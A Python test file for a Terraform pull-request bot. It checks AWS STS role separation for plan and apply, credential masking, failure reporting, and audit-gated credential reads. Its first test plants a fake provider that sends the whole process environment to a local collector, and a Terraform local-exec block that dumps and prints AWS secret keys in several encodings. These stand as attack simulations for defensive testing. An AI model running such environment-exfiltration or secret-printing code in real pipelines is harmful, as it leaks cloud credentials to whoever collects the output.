"""AWS roles by STS, from the rules to the engine and to what people see."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from pathlib import Path

import boto3
import pytest
from sqlalchemy import text

from prbot.flows import given
from tests.flows.app import Story, shared_with_engines, story, tf
from tests.flows.conftest import check_afterwards
from tests.hostile.attacker import NEEDS_IT, PROVIDER, collecting, provider
from tests.sts import Sts, sts_server

NAMES = ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN")
ACCOUNT = "arn:aws:iam::123456789012:role"
PRINTS = """
import base64, json, os, textwrap, urllib.parse
for name in ("AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "AWS_SESSION_TOKEN"):
    value = os.environ[name]
    data = value.encode()
    said = [value, json.dumps(value), urllib.parse.quote(value), data.hex(), base64.b64encode(b"u:" + data).decode()]
    print(" ".join(said), *textwrap.wrap(base64.b64encode(data).decode(), 76), sep=SEPARATOR)
"""
AT_THE_APPLY = """
resource "terraform_data" "says" {
  provisioner "local-exec" {
    interpreter = ["/usr/bin/env", "python3", "-c"]
    command     = <<-EOT
%s
    EOT
  }
}
"""


def rules_of(root: Path, sts: Sts) -> Path:
    keys = root / "keys.env"
    keys.write_text("AWS_ACCESS_KEY_ID=AKIAPLANTED\nAWS_SECRET_ACCESS_KEY=planted-keys-of-prbot\n")
    role = f'{ACCOUNT}/prbot-%s", region: eu-north-1, source: {keys}, endpoint_url: "{sts.url}"'
    rules = root / "rules.yaml"
    rules.write_text(
        "credentials:\n"
        "  cloud:\n"
        f'    plan: {{aws: {{role: "{role % "plan"}}}}}\n'
        f'    apply: {{aws: {{role: "{role % "apply"}}}}}\n'
        "defaults:\n"
        "  credentials: [cloud]\n"
    )
    return rules


def who(sts: Sts, environment: Mapping[str, str]) -> str:
    """Who AWS says that these variables make one."""
    key, secret, token = (environment[name] for name in NAMES)
    client = boto3.client(
        "sts", endpoint_url=sts.url, region_name=environment["AWS_REGION"],
        aws_access_key_id=key, aws_secret_access_key=secret, aws_session_token=token,
    )  # fmt: skip
    arn: str = client.get_caller_identity()["Arn"]
    return arn.partition("assumed-role/")[2]


def shown(app: Story, pull_comments: str) -> str:
    return "\n".join([pull_comments, app.everything_kept(), *(app.page(f"/runs/{run.id}") for run in app.every_run())])


def traces(secret: str) -> set[str]:
    """What is left of a secret in any of the forms in which it was printed."""
    encoded = base64.b64encode(secret.encode()).decode()
    return {secret, secret.encode().hex(), *(encoded[start : start + 16] for start in range(len(encoded) - 16))}


def test_plans_and_applies_are_different_roles_and_neithers_keys_are_shown(tmp_path: Path) -> None:
    with (
        sts_server() as sts,
        story(tmp_path, rules=rules_of(tmp_path, sts)) as app,
        collecting("127.0.0.1") as collector,
    ):
        infra = app.repo()
        spies = 'tell("environment", dict(os.environ))\n' + PRINTS.replace("SEPARATOR", "' '")
        program = provider(spies, {"COLLECTOR": collector.url})
        spy = {"net/main.tf": infra.backend("net") + NEEDS_IT, f"net/{PROVIDER}": program}
        pull = infra.open_pull(by="al", files=spy)
        app.settle()
        planned = dict(collector.found["environment"])
        (run,) = app.runs(pull)
        assert who(sts, planned) == f"prbot-plan/prbot-acme-infra-{pull.number}-{run.id}"
        assert "***" in run.error  # it was printed
        kept = shared_with_engines(tmp_path) / "environment"
        lines = f"import json, os\njson.dump(dict(os.environ), open({str(kept)!r}, 'w'))" + PRINTS
        says = AT_THE_APPLY % lines.replace("SEPARATOR", r"'\n'")
        pull.push(by="al", files={"net/main.tf": infra.backend("net") + says, f"net/{PROVIDER}": None})
        app.settle()
        assert {each["RoleArn"] for each in sts.asked()} == {f"{ACCOUNT}/prbot-plan"}
        pull.approve(by="bo")
        app.settle()
        pull.merge(by="al")
        app.settle()
        (run,) = app.runs(pull, "apply")
        assert run.status == "applied", run.error
        assert "***" in run.applied_output
        applied = json.loads(kept.read_text())
        assert who(sts, applied) == f"prbot-apply/prbot-acme-infra-{pull.number}-{run.id}"
        entries = [each["id"] for each in app.audit("credentials.read")]
        assert [each["Tags.member.6.Value"] for each in sts.asked()] == entries
        everything = shown(app, "\n".join(comment.body for comment in pull.comments()))
        for environment in (planned, applied):
            for name in NAMES:
                assert not [trace for trace in traces(environment[name]) if trace in everything], name
        assert "planted-keys-of-prbot" not in everything
        check_afterwards(app)


def test_an_sts_that_is_down_fails_the_run_and_says_which_credential(tmp_path: Path) -> None:
    with sts_server() as sts:
        rules = rules_of(tmp_path, sts)
    with story(tmp_path, rules=rules) as app:
        infra = app.repo()
        pull = infra.open_pull(by="al", files={"net/main.tf": tf(infra.backend("net"), v=1)})
        app.settle()
        said = pull.comments()[-1].body
        assert "the credential `cloud` (plan) cannot be had: STS in eu-north-1 could not be asked" in said
        check_afterwards(app)


def test_what_cannot_go_on_record_is_not_read(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(given, "COVER_SECONDS", 0.2)
    with sts_server() as sts, story(tmp_path, rules=rules_of(tmp_path, sts)) as app:
        infra = app.repo()
        with app.services.db.write() as tx:
            full = "BEFORE INSERT ON prbot_audit_checkpoint BEGIN SELECT RAISE(ABORT, 'full'); END"
            tx.execute(text(f"CREATE TRIGGER full {full}"))
        pull = infra.open_pull(by="al", files={"net/main.tf": tf(infra.backend("net"), v=1)})
        app.settle()
        assert "no credentials were read, since that could not be put into the audit log" in app.runs(pull)[-1].error
        assert sts.asked() == []
        with app.services.db.write() as tx:
            tx.execute(text("DROP TRIGGER full"))
        pull.comment(by="al", body="prbot plan")
        app.settle()
        assert app.runs(pull)[-1].status == "planned"
        check_afterwards(app)
